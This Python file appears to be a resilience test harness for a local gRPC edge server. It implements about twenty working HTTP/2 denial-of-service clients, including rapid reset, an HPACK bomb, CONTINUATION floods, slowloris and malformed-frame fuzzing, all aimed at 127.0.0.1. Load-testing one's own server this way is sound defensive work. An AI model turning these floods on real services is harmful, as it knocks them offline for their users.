"""Hostile HTTP/2 clients, each a function of Target; run as `attacks.py NAME PORT CERTIFICATES SECONDS`, which prints what it did as JSON.

Each holds a client certificate that the edge accepts (client-NAME): the worst case is a tenant. Frames are made by hand, since a library
refuses to send what is sent here; header blocks come from python3-hpack. Everything is bounded in time, and goes to 127.0.0.1.
"""
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

from hpack import Decoder, Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
LAST_STREAM = 2**31 - 1
EMPTY_MESSAGE = b"\0\0\0\0\0"
LIST_MODELS = "/lethe.v1.ModelService/ListModels"


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def setting(identifier, value):
    return struct.pack("!HI", identifier, value)


INITIAL_WINDOW_SIZE = 4


def request(path=LIST_MODELS, scheme="https", extra=()):
    """A header block that leaves the connection's dynamic table alone: it may be sent any number of times."""
    headers = [(":method", "POST"), (":scheme", scheme), (":path", path), (":authority", "localhost"), ("te", "trailers"),
               ("content-type", "application/grpc"), *extra]
    return b"".join(literal(name, value) for name, value in headers)


def literal(name, value):
    """Without indexing, a new name, no Huffman code (RFC 7541, 6.2.2)."""
    return b"\0" + hpack_string(name.encode()) + hpack_string(value.encode())


def hpack_string(text):
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, coded = len(text) - 127, bytearray([127])
    while rest >= 128:
        coded.append(rest % 128 + 128)
        rest //= 128
    return bytes(coded) + bytes([rest]) + text


def frames(stream):
    """The whole frames in these bytes: kind, flags, stream, payload."""
    while len(stream) >= 9:
        length = int.from_bytes(stream[:3], "big")
        if len(stream) < 9 + length:
            return
        yield stream[3], stream[4], int.from_bytes(stream[5:9], "big"), stream[9:9 + length]
        stream = stream[9 + length:]


def grpc_statuses(received):
    """Of everything that came on a connection."""
    decoder = Decoder()
    pairs = [pair for kind, _, _, payload in frames(received) if kind == HEADERS for pair in decoder.decode(payload)]
    return [value for name, value in pairs if name == "grpc-status"]


class Target:
    """Where to, until when, and what was done."""

    def __init__(self, name, port, certificates, seconds):
        self.port = port
        # An address and a certificate for each attack: what the edge holds against one of them is not held against the next.
        self.address = f"127.0.1.{1 + sorted(ATTACKS).index(name) if name in ATTACKS else 0}"
        self.end = time.monotonic() + seconds
        self.counts = {"connections": 0, "refused": 0, "frames": 0, "bytes": 0}
        self.tls = None
        if certificates:
            self.tls = ssl.create_default_context(cafile=f"{certificates}/ca.pem")
            pair = f"{certificates}/client-{name.replace('_', '-')}"
            self.tls.load_cert_chain(f"{pair}.pem", f"{pair}.key")
            self.tls.set_alpn_protocols(["h2"])

    def goes_on(self):
        return time.monotonic() < self.end

    def connect(self, settings=b""):
        """A connection after the prefaces; None where the edge refused it."""
        try:
            link = socket.create_connection(("127.0.0.1", self.port), 2, (self.address, 0))
            link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if self.tls:
                link = self.tls.wrap_socket(link, server_hostname="localhost")
            link.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
            link.settimeout(0.5)
        except OSError:
            self.counts["refused"] += 1
            time.sleep(0.01)
            return None
        self.counts["connections"] += 1
        return link

    def send(self, link, payload, frames=1, read=True):
        """False once the other side has had enough."""
        try:
            link.sendall(payload)
            if read:
                link.settimeout(0)
                try:
                    while True:
                        if not link.recv(1 << 16):
                            return False
                except (BlockingIOError, ssl.SSLWantReadError):
                    pass
                link.settimeout(0.5)
        except OSError:
            return False
        self.counts["frames"] += frames
        self.counts["bytes"] += len(payload)
        return True

    def flood(self, payload_of, frames, read=True):
        """Sends payload_of(n), n = 0, 1, …, on one connection after another, as fast as it is taken."""
        while self.goes_on():
            link = self.connect()
            if link is None:
                continue
            n = 0
            while self.goes_on() and self.send(link, payload_of(n), frames, read):
                n += 1
            link.close()


def streams(n, batch):
    """Ids of batch n of so many client streams."""
    return range(2 * n * batch + 1, 2 * (n + 1) * batch + 1, 2)


def rapid_reset(target):
    block = request()
    target.flood(lambda n: b"".join(
        frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, EMPTY_MESSAGE) + frame(RESET, 0, s, b"\0\0\0\x08")
        for s in streams(n, 100)), 300)


def reset_before_data(target):
    block = request()
    target.flood(lambda n: b"".join(
        frame(HEADERS, END_HEADERS, s, block) + frame(RESET, 0, s, b"\0\0\0\x08") for s in streams(n, 100)), 200)


def provoked_reset(target):
    """The server is made to reset: a window update that overflows ("MadeYouReset")."""
    block = request()
    target.flood(lambda n: b"".join(
        frame(HEADERS, END_HEADERS, s, block) + 2 * frame(WINDOW_UPDATE, 0, s, struct.pack("!I", LAST_STREAM))
        for s in streams(n, 100)), 300)


def settings_flood(target):
    target.flood(lambda n: 500 * frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535 + n % 2)), 500)


def settings_unread(target):
    target.flood(lambda n: 500 * frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535 + n % 2)), 500, read=False)


def ping_flood(target):
    target.flood(lambda n: 500 * frame(PING, 0, 0, b"\0" * 8), 500)


def ping_unread(target):
    target.flood(lambda n: 500 * frame(PING, 0, 0, b"\0" * 8), 500, read=False)


def empty_data_flood(target):
    opened = frame(HEADERS, END_HEADERS, 1, request())
    target.flood(lambda n: (b"" if n else opened) + 500 * frame(DATA, 0, 1), 500)


def priority_flood(target):
    target.flood(lambda n: b"".join(
        frame(PRIORITY, 0, s, struct.pack("!IB", 0, n % 256)) for s in streams(n % 10_000, 500)), 500)


def call_flood(target):
    """Whole calls, as fast as they are taken."""
    block = request()
    target.flood(lambda n: b"".join(
        frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, EMPTY_MESSAGE) for s in streams(n, 20)), 40)


def header_flood(target):
    """As many and as long headers as one frame takes."""
    block = request(extra=[(f"x-{i}", "v" * 300) for i in range(45)])
    target.flood(lambda n: b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) for s in streams(n, 10)), 10)


def hpack_bomb(target):
    """A 4 KB header in the dynamic table, then one byte for each time it comes again: a frame of 16 KB is 64 MB of headers."""
    first = Encoder().encode([(":method", "POST"), (":scheme", "https"), (":path", LIST_MODELS), (":authority", "localhost"),
                              ("bomb", "b" * 4000)], huffman=False)
    bomb = request() + b"\xbe" * 12_000
    target.flood(lambda n: (frame(HEADERS, END_HEADERS | END_STREAM, 1, first) if n == 0 else
                            frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, bomb)), 1)


def continuation_flood(target):
    begun = frame(HEADERS, 0, 1, request())
    piece = literal("x-more", "c" * 4000) * 4
    target.flood(lambda n: begun if n == 0 else frame(CONTINUATION, 0, 1, piece[:16_000]), 1)


def empty_continuation_flood(target):
    begun = frame(HEADERS, 0, 1, request())
    target.flood(lambda n: (b"" if n else begun) + 500 * frame(CONTINUATION, 0, 1), 500)


def window_update_flood(target):
    target.flood(lambda n: 500 * frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), 500)


def handshake_flood(target):
    while target.goes_on():
        link = target.connect()
        if link:
            link.close()


def hold(target, links):
    """Keeps connections open, trickling nothing, until the time is over; those that were closed are counted."""
    while target.goes_on():
        time.sleep(0.2)
    for link in links:
        link.settimeout(0)
        try:
            while link.recv(1 << 16):
                pass
            target.counts["closed"] = target.counts.get("closed", 0) + 1
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            target.counts["closed"] = target.counts.get("closed", 0) + 1


def slow_read(target, streams_each=8):
    """Streams of text that is never taken, on eight connections: with no window, or with a full socket."""
    session = os.environ["LETHE_ATTACK_SESSION"].encode()
    # session_id, prompt.text, output {max_tokens: 60,000, ignore_end_of_text}, remember = false
    message = (b"\x0a" + bytes([len(session)]) + session + b"\x12\x04\x0a\x02hi" + b"\x2a\x06\x08\xe0\xd4\x03\x20\x01" +
               b"\x30\x00")
    call = b"\0" + struct.pack("!I", len(message)) + message
    block = request("/lethe.v1.GenerationService/Generate")
    links = []
    for n in range(8):
        link = target.connect(setting(INITIAL_WINDOW_SIZE, 0 if n % 2 else 1 << 20))
        if link is None:
            continue
        for s in streams(0, streams_each):
            target.send(link, frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, call), 2, read=False)
        links.append(link)
    hold(target, links)


def few_slow_reads(target):
    """No more streams than the tenant may have at once, so that none takes the place of one that is ended."""
    slow_read(target, streams_each=2)


def slowloris(target):
    """Connections that never finish: no handshake, no preface, half a header block, half a message; a byte now and then."""
    links = [link for link in (target.connect() for _ in range(6)) if link]
    for n, link in enumerate(links):
        target.send(link, frame(HEADERS, 0 if n % 2 else END_HEADERS, 1, request("/lethe.v1.SessionService/ImportSession")),
                    read=False)
    for _ in range(40):
        try:
            links.append(socket.create_connection(("127.0.0.1", target.port), 1, (target.address, 0)))
        except OSError:
            target.counts["refused"] += 1
    while target.goes_on():
        for link in links[:6:2]:
            target.send(link, frame(DATA, 0, 1, b"\0"), read=False)
        time.sleep(0.3)
    hold(target, links)


def oversize(target):
    """Messages that say they are 4 GB, messages over the limit that are really sent, frames over the largest size."""
    while target.goes_on():
        link = target.connect()
        if link is None:
            continue
        append = request("/lethe.v1.SessionService/Append")
        ok = target.send(link, frame(HEADERS, END_HEADERS, 1, append) + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff" + b"x" * 16_000))
        body = b"\0" + struct.pack("!I", 64 << 20) + b"x" * 16_000
        ok = ok and target.send(link, frame(HEADERS, END_HEADERS, 3, append))
        while ok and target.goes_on():
            ok = target.send(link, frame(DATA, 0, 3, body[:16_000]))
        link.close()
        link = target.connect()
        if link:
            target.send(link, struct.pack("!I", 1 << 23)[1:] + bytes([DATA, 0]) + struct.pack("!I", 1) + b"x" * (1 << 20))
            link.close()


def malformed(target):
    """Random frames, valid frames with flipped bytes, bytes that are no HTTP/2."""
    source = random.Random(7)
    good = frame(HEADERS, END_HEADERS, 1, request()) + frame(DATA, END_STREAM, 1, EMPTY_MESSAGE) + frame(PING, 0, 0, b"\0" * 8)
    while target.goes_on():
        link = target.connect()
        if link is None:
            continue
        for _ in range(20):
            kind = source.randrange(3)
            if kind == 0:
                payload = frame(source.randrange(12), source.randrange(256), source.randrange(8), source.randbytes(source.randrange(64)))
            elif kind == 1:
                payload = bytearray(good)
                payload[source.randrange(len(payload))] ^= 1 << source.randrange(8)
            else:
                payload = source.randbytes(200)
            if not target.send(link, bytes(payload)):
                break
        link.close()


def burn(target):
    """No attack: takes as much of a processor as a flooder does, for the baseline."""
    while target.goes_on():
        target.counts["frames"] += sum(range(2000)) > 0


ATTACKS = {f.__name__: f for f in (
    rapid_reset, reset_before_data, provoked_reset, settings_flood, settings_unread, ping_flood, ping_unread, empty_data_flood,
    priority_flood, window_update_flood, call_flood, header_flood, hpack_bomb, continuation_flood, empty_continuation_flood,
    handshake_flood, slow_read, slowloris, oversize, malformed)}


OTHERS = {f.__name__: f for f in (burn, few_slow_reads)}


def main(name, port, certificates, seconds):
    target = Target(name, int(port), certificates, float(seconds))
    {**ATTACKS, **OTHERS}[name](target)
    print(json.dumps(target.counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
